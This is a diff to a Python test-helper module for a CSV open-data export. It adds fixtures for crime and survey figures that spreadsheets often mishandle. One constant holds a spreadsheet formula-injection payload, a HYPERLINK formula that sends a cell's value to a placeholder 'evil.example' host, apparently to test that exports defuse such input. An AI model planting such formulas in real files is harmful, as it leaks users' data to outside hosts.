@@ -1,7 +1,12 @@
 import csv
+import datetime
 import io
+from decimal import Decimal
 
+from measures.models import PublicationStatus, Unit
 from opendata.exports import BOM
+
+from ..factories import AreaFactory, FigureFactory, MeasureFactory, PriorityAreaFactory
 
 
 def content(response) -> bytes:
@@ -19,3 +24,53 @@ def csv_rows(response) -> list[dict]:
 
 def csv_header(response) -> list[str]:
     return content(response).decode().splitlines()[0].split(",")
+
+
+# Text a spreadsheet must keep as it is: letters beyond ASCII, and a formula.
+CAFE = "Ynys Môn — café"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+
+def people_figures() -> dict:
+    """A few figures with what a spreadsheet gets wrong: a name and a note
+    beyond ASCII, a note that looks like a formula, a negative change, an
+    interval, yes/no values, and a draft that no public file may hold."""
+    priority = PriorityAreaFactory(name="Reduce burglary", slug="reduce-burglary")
+    count = MeasureFactory(
+        name="Burglaries — all kinds", slug="burglaries", priority_area=priority, unit=Unit.COUNT
+    )
+    survey = MeasureFactory(name="Satisfaction", slug="satisfaction", unit=Unit.PERCENTAGE)
+    mon = AreaFactory(name="Ynys Môn", slug="ynys-mon")
+    shire = AreaFactory(name="Shire", slug="shire")
+    baseline = FigureFactory(measure=count, area=mon, value=Decimal("100"), note=CAFE)
+    latest = FigureFactory(
+        measure=count,
+        area=mon,
+        period_start=datetime.date(2023, 4, 1),
+        period_end=datetime.date(2024, 3, 31),
+        value=Decimal("90.5000"),
+        provisional=True,
+        note=FORMULA,
+        source_url="https://example.org/burglary",
+    )
+    draft = FigureFactory(
+        measure=count,
+        area=mon,
+        period_start=datetime.date(2024, 4, 1),
+        period_end=datetime.date(2025, 3, 31),
+        value=Decimal("80"),
+        note="draft only",
+        status=PublicationStatus.DRAFT,
+    )
+    interval = FigureFactory(
+        measure=survey,
+        area=shire,
+        period_start=datetime.date(2024, 1, 1),
+        period_end=datetime.date(2024, 3, 31),
+        value=Decimal("64.25"),
+        lower=Decimal("60.1"),
+        upper=Decimal("68.4"),
+        series_break=True,
+        note="-5",
+    )
+    return {"baseline": baseline, "latest": latest, "draft": draft, "interval": interval}
